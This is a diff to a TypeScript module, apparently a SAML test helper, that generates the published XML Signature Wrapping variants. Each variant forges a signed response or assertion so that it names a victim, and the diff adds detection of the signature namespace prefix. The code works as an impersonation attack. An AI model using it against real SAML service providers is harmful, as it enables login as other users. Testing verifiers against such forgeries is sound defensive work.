@@ -96,6 +96,8 @@ const append = (xml: string, name: string, child: string): string =>
 interface Parts {
   readonly whole: string;
   readonly signature: string;
+  /** Prefix of the signature's namespace. */
+  readonly prefix: string;
   /** The assertion as it was signed, with its signature where it has its own. */
   readonly assertion: string;
   /** Puts another name and ID into an element. */
@@ -107,9 +109,9 @@ interface Parts {
  * Whoever You Want to Be" (2012). The first two are over a signed response, the others over a signed assertion.
  */
 const WRAPPINGS: readonly ((parts: Parts) => string)[] = [
-  ({ whole, signature, forge }) => {
+  ({ whole, signature, prefix, forge }) => {
     const original = without(whole, signature);
-    const wrapping = append(signature, "ds:Signature", original);
+    const wrapping = append(signature, `${prefix}:Signature`, original);
     return swap(forge(original), "</saml:Issuer>", `</saml:Issuer>${wrapping}`);
   },
   ({ whole, signature, forge }) => {
@@ -122,31 +124,41 @@ const WRAPPINGS: readonly ((parts: Parts) => string)[] = [
     swap(whole, assertion, append(forge(without(assertion, signature)), "saml:Assertion", assertion)),
   ({ whole, signature, assertion, forge }) =>
     append(swap(whole, assertion, forge(assertion)), "samlp:Response", without(assertion, signature)),
-  ({ whole, signature, assertion, forge }) =>
-    swap(whole, assertion, append(forge(assertion), "ds:Signature", without(assertion, signature))),
+  ({ whole, signature, prefix, assertion, forge }) =>
+    swap(whole, assertion, append(forge(assertion), `${prefix}:Signature`, without(assertion, signature))),
   ({ whole, signature, assertion, forge }) => {
     const evil = forge(without(assertion, signature));
     return swap(whole, assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
   },
-  ({ whole, signature, assertion, forge }) => {
-    const object = `<ds:Object>${without(assertion, signature)}</ds:Object>`;
-    return swap(whole, assertion, append(forge(assertion), "ds:Signature", object));
+  ({ whole, signature, prefix, assertion, forge }) => {
+    const object = `<${prefix}:Object>${without(assertion, signature)}</${prefix}:Object>`;
+    return swap(whole, assertion, append(forge(assertion), `${prefix}:Signature`, object));
   },
 ];
 
 /** Numbers of {@link wrap}. */
 export const WRAPPING_NUMBERS = WRAPPINGS.map((_, index) => index + 1);
 
-/** Wraps a response whose signature is sound so that it speaks of a victim. */
-export function wrap(said: Said, number: number, victim: string, key: string): string {
-  const whole = sign(responseOf(said), number <= 2 ? "Response" : "Assertion", key);
+/** What must be signed, and nothing else, for a way of wrapping. */
+export function signedFor(number: number): "Response" | "Assertion" {
+  return number <= 2 ? "Response" : "Assertion";
+}
+
+/** Wraps a response whose signature is sound, and about `name`, so that it speaks of a victim. */
+export function wrapSigned(whole: string, number: number, name: string, victim: string): string {
+  const [, prefix = ""] = /<(\w+):Signature[ >]/.exec(whole) ?? [];
   const wrapped = WRAPPINGS[number - 1]?.({
     whole,
-    signature: part(whole, "ds:Signature"),
+    signature: part(whole, `${prefix}:Signature`),
+    prefix,
     assertion: part(whole, "saml:Assertion"),
-    forge: (element) =>
-      element.replace(/ ID="[^"]*"/, ' ID="_evil"').replace(`>${said.nameId}<`, `>${victim}<`),
+    forge: (element) => element.replace(/ ID="[^"]*"/, ' ID="_evil"').replace(`>${name}<`, `>${victim}<`),
   });
   if (wrapped === undefined) throw new Error(`no wrapping ${number}`);
   return wrapped;
+}
+
+/** Makes a response and wraps it so that it speaks of a victim. */
+export function wrap(said: Said, number: number, victim: string, key: string): string {
+  return wrapSigned(sign(responseOf(said), signedFor(number), key), number, said.nameId, victim);
 }
